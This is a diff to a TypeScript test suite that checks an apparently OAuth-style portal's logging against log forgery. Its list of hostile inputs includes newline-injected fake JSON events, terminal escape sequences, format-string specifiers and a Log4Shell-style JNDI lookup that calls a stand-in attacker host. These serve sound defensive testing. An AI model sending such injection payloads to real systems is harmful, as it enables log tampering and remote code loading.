@@ -7,31 +7,19 @@ import { wire } from '../helpers/wire.ts'
 import { capture } from './helpers/log.ts'
 
 const forgeries = [
-  '\n{"level":30,"event":"code_issued","reason":"ok","externalId":"admin"}',
-  '\r\n{"event":"token_issued"}',
-  '"}\n{"event":"token_issued","x":"',
-  '\u001b[2J\u001b[1;31mroot',
-  '\u001b]0;evil\u0007',
-  '\u0000',
-  '\u2028\u2029',
-  '\u202etxet',
-  '\b\b\b\b',
-  '","event":"user_information_returned","x":"',
-  '$' + '{jndi:ldap://evil.example/a}',
-  '%s%n%d%o%j',
-  '\\u000a',
-  '%0a%0d',
-  'a\u0085b',
-  '\u009b31m'
+  '\n{"level":30,"event":"code_issued","reason":"ok","externalId":"admin"}', '\r\n{"event":"token_issued"}',
+  '"}\n{"event":"token_issued","x":"', '\x1b[2J\x1b[1;31mroot', '\x1b]0;evil\x07', '\0', '\u2028\u2029', '\u202etxet',
+  '\b\b\b\b', '","event":"user_information_returned","x":"', '$' + '{jndi:ldap://evil.example/a}', '%s%n%d%o%j',
+  '\\u000a', '%0a%0d', 'a\u0085b', '\u009b31m'
 ]
 
-await t.test('whatever is logged stays on its line', async (t) => {
+t.test('whatever is logged stays on its line', async (t) => {
   const log = capture()
-  let failing: string | undefined
+  let [user, failure] = ['', '']
   const { url, events } = await startHost(t, {
-    currentUser: ({ headers: { 'x-user': id } }) => {
-      if (failing !== undefined) throw new Error(failing)
-      return typeof id === 'string' ? { id: Buffer.from(id, 'base64').toString(), eligible: true } : null
+    currentUser ({ headers: { 'x-user': id } }) {
+      if (failure !== '') throw new Error(failure)
+      return id === undefined ? null : { id: user, eligible: true }
     },
     portalEligibility: ({ id }) => recordOf(id)
   }, { server: { logger: log.logger, requestIdHeader: 'x-request-id' } })
@@ -39,34 +27,24 @@ await t.test('whatever is logged stays on its line', async (t) => {
 
   for (const forgery of forgeries) {
     const encoded = encodeURIComponent(forgery)
+    const names = ['user-agent', 'x-request-id', 'x-forwarded-for', 'accept']
+    user = forgery
     await portal.authorize({ client_id: forgery, state: forgery, scope: forgery })
     await portal.authorize({ redirect_uri: forgery })
     await portal.authorize({ [forgery]: forgery, response_type: forgery })
-    await portal.authorize({}, Buffer.from(forgery).toString('base64'))
-    await portal.authorize({}, null, {
-      'user-agent': encoded,
-      'x-request-id': encoded,
-      'x-forwarded-for': encoded,
-      accept: encoded
-    })
+    await portal.authorize({}, null, Object.fromEntries(names.map((name) => [name, encoded])))
     await portal.token({ client_id: forgery, client_secret: forgery, code: forgery })
     await portal.token({ code: forgery, grant_type: forgery })
-    await portal.token({ code: await portal.code(Buffer.from(forgery).toString('base64')) })
+    await portal.token({ code: await portal.code() })
     await portal.user(encoded)
-    failing = forgery
-    await portal.authorize({})
-    failing = undefined
+    failure = forgery
+    await portal.authorize()
+    failure = ''
   }
 
   t.notMatch(log.text(), /[^\x20-\x7e\n\u0080-\uffff]/, 'no control character of ASCII but the line break')
-  const lines = log.text().trimEnd().split('\n').map((line) => JSON.parse(line))
-  const logged = lines.filter(({ event }) => event !== undefined).map(({ event, reason }) => `${event} ${reason}`)
-  t.strictSame(
-    logged,
-    events.map(({ type, reason }) => `${type} ${reason}`),
-    'the log tells what happened, and nothing else'
-  )
-  for (const line of log.text().trimEnd().split('\n')) {
-    if (line.split('"event":').length > 2) t.fail(`two events in a line: ${line}`)
-  }
+  const lines = log.text().trimEnd().split('\n')
+  t.notOk(lines.find((line) => line.split('"event":').length > 2), 'no two events in a line')
+  const logged = lines.map((line) => JSON.parse(line)).filter(({ event }) => event !== undefined)
+  t.strictSame(logged.map(({ event, reason }) => [event, reason]), events.map(({ type, reason }) => [type, reason]))
 })
